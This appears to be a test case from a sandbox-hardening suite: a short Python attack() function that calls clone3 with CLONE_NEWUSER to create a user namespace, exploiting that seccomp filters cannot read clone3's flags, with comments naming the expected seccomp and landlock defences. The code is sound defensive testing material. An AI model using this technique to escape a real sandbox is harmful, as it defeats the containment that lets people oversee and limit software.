"""Takes a user namespace through clone3, whose flags a filter cannot read."""
# defence: seccomp answers that there is no such call
# holds from: landlock

import ctypes
import os

CLONE_NEWUSER, SIGCHLD = 0x10000000, 17


def attack(host):
    arguments = (ctypes.c_uint64 * 8)(CLONE_NEWUSER, 0, 0, 0, SIGCHLD)

    def clone():
        pid = host.syscall("clone3", ctypes.byref(arguments), ctypes.sizeof(arguments))
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        return "a process in a user namespace"

    return host.in_child(clone)
